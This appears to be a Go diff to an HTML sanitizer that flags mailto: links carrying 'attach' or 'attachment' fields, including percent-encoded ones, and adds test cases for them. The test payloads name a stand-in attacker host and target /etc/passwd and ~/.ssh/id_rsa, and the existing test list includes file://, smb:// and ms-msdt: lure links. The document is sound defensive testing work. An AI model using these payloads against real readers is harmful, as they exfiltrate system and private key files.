@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/json"
 	"fmt"
+	"net/url"
 	"os"
 	"path/filepath"
 	"sort"
@@ -199,8 +200,10 @@ func inertScheme(s, u string) bool {
 		return len(t) < 2 || !strings.ContainsRune(`/\`, rune(t[0])) || !strings.ContainsRune(`/\`, rune(t[1]))
 	}
 	switch s {
-	case "http", "https", "mailto", "tel", "sms", "callto", "cid", "xmpp", "ftp", "ftps", "webcal":
+	case "http", "https", "tel", "sms", "callto", "cid", "xmpp", "ftp", "ftps", "webcal":
 		return true
+	case "mailto":
+		return !mailtoAttaching(u)
 	case "data":
 		rest := strings.ToLower(strings.Map(func(r rune) rune {
 			if r <= ' ' {
@@ -209,6 +212,32 @@ func inertScheme(s, u string) bool {
 			return r
 		}, u[strings.IndexByte(u, ':')+1:]))
 		return strings.HasPrefix(rest, "image/") && !strings.HasPrefix(rest, "image/svg")
+	}
+	return false
+}
+
+// mailtoAttaching reports whether the mailto: URL u has a field a mail
+// client may read as attach or attachment, which attaches a file of the
+// reader's: any field after a '?', '&' or ';', its name without the
+// spaces or '+' around it, in any case, as written or percent-decoded
+// once or twice.
+func mailtoAttaching(u string) bool {
+	q := u[strings.IndexByte(u, ':')+1:]
+	for range 3 {
+		if i := strings.IndexAny(q, "?&;"); i >= 0 {
+			for _, f := range strings.FieldsFunc(q[i:], func(r rune) bool { return r == '?' || r == '&' || r == ';' }) {
+				name, _, _ := strings.Cut(f, "=")
+				name = strings.Trim(name, " +\t\n\r")
+				if strings.EqualFold(name, "attach") || strings.EqualFold(name, "attachment") {
+					return true
+				}
+			}
+		}
+		d, err := url.PathUnescape(q)
+		if err != nil {
+			return false
+		}
+		q = d
 	}
 	return false
 }
@@ -368,6 +397,10 @@ var inertPayloads = []string{
 	`jar:https://attacker.test/x.jar!/`,
 	`view-source:https://attacker.test/`,
 	`intent://x#Intent;scheme=http;end`,
+	// mailto: links that attach a file of the reader's.
+	`mailto:a@attacker.test?subject=x&attach=/etc/passwd`,
+	`mailto:a@attacker.test?subject=x&amp;att%61chment=~/.ssh/id_rsa`,
+	`<a href="mailto:a@attacker.test?subject=x&amp;attach=/etc/passwd">x</a>`,
 	`url(file://attacker.test/s.png)`,
 	`url('ms-msdt:/id')`,
 	`<a href="&#102;ile://attacker.test/s">x</a>`,
@@ -625,6 +658,8 @@ func TestInertViolationsCatch(t *testing.T) {
 		`<p style="background:url('file://attacker.test/s.png')">x</p>`,
 		`<p style="background:image-set(&quot;smb://attacker.test/s.png&quot; 1x)">x</p>`,
 		`<!--[if mso]><v:fill src="file://attacker.test/s.png"></v:fill><![endif]-->`,
+		`<a href="mailto:a@attacker.test?subject=x&amp;Attach=/etc/passwd">x</a>`,
+		`<a href="mailto:a@attacker.test?subject=x;att%61chment=/etc/passwd">x</a>`,
 	} {
 		parsed, err := html.Parse(strings.NewReader(doc))
 		if err != nil {
